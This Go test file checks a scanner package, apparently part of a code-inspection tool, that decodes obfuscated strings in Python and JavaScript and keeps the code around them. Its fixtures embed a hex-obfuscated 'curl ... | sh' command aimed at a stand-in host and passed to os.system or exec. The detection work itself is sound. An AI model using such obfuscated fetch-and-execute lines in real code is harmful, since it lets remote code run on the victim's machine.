package spelling_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/static/spelling"
)

func TestALongReadingKeepsWhatHasToDoWithWhatIsSpelledOtherwise(t *testing.T) {
	var text strings.Builder
	pad := func() {
		for i := range 1500 {
			fmt.Fprintf(&text, "value_%d_%d = compute(%d)  # padding\n", text.Len(), i, i)
		}
	}
	text.WriteString("import os as o\n")
	pad()
	text.WriteString("first = 'cu\\x72l -s http://x.example.com/i | sh'\n")
	pad()
	text.WriteString("second = wrap(first)\n")
	pad()
	text.WriteString("def unrelated(): pass\n")
	pad()
	text.WriteString("o.system(second)\n")
	readings, unread := spelling.Readings(gate.LanguagePython, []byte(text.String()))
	if len(readings) == 0 || len(unread) > 0 {
		t.Fatalf("%d readings, %q", len(readings), unread)
	}
	source := strings.Split(text.String(), "\n")
	for _, r := range readings {
		f := r.Focus()
		if len(f.Content) > text.Len()/10 {
			t.Errorf("%d of %d bytes are kept", len(f.Content), text.Len())
		}
		for _, want := range []string{"import os as o\n", "'curl -s", "second = wrap(", "o.system("} {
			if !bytes.Contains(f.Content, []byte(want)) {
				t.Errorf("%q is not kept", want)
			}
		}
		if bytes.Contains(f.Content, []byte("unrelated")) {
			t.Error("a function without a name in common is kept")
		}
		for i, line := range bytes.Split(f.Content, []byte{'\n'}) {
			if len(line) > 0 && !bytes.Contains(line, []byte("curl")) && !bytes.HasPrefix(line, []byte("o.")) && string(line) != source[f.Lines[i]-1] {
				t.Fatalf("line %d is said to be %d, %q, and is %q", i+1, f.Lines[i], source[f.Lines[i]-1], line)
			}
		}
		if near := r.Near(); !bytes.Contains(near.Content, []byte("curl")) || bytes.Contains(near.Content, []byte("o.system")) || len(near.Marks) == 0 {
			t.Errorf("near what is spelled otherwise is %.200q", near.Content)
		}
	}
}

func TestAShortReadingIsKeptWhole(t *testing.T) {
	text := "import os\n" + strings.Repeat("x = 1\n", 100) + "os.system('cu\\x72l http://x.example.com/i | sh')\n"
	readings, _ := spelling.Readings(gate.LanguagePython, []byte(text))
	for _, r := range readings {
		if f := r.Focus(); !bytes.Equal(f.Content, r.Content) {
			t.Errorf("%d of %d bytes are kept", len(f.Content), len(r.Content))
		}
	}
}

func TestLongLinesAreReadAgainOnlyNearAFind(t *testing.T) {
	pad := strings.Repeat("function a(b){return b+1};", 20_000)
	text := pad + "x.exec('cu\\x72l http://x.example.com/i | sh');" + pad + "\nlast()\n"
	readings, _ := spelling.Readings(gate.LanguageJavaScript, []byte(text))
	if len(readings) == 0 {
		t.Fatal("nothing is read otherwise")
	}
	for _, r := range readings {
		near := r.Near()
		if !bytes.Contains(near.Content, []byte("x.exec('curl http")) || len(near.Content) > 64<<10 || len(near.Marks) == 0 {
			t.Errorf("%d bytes are kept, %d marks", len(near.Content), len(near.Marks))
		}
		if got := bytes.Count(near.Content, []byte{'\n'}) + 1; got != len(near.Lines) {
			t.Errorf("%d lines, and numbers for %d", got, len(near.Lines))
		}
		for i, line := range bytes.Split(near.Content, []byte{'\n'}) {
			if bytes.Contains(line, []byte("exec")) && near.Lines[i] != 1 {
				t.Errorf("it is said to be on line %d", near.Lines[i])
			}
		}
	}
}
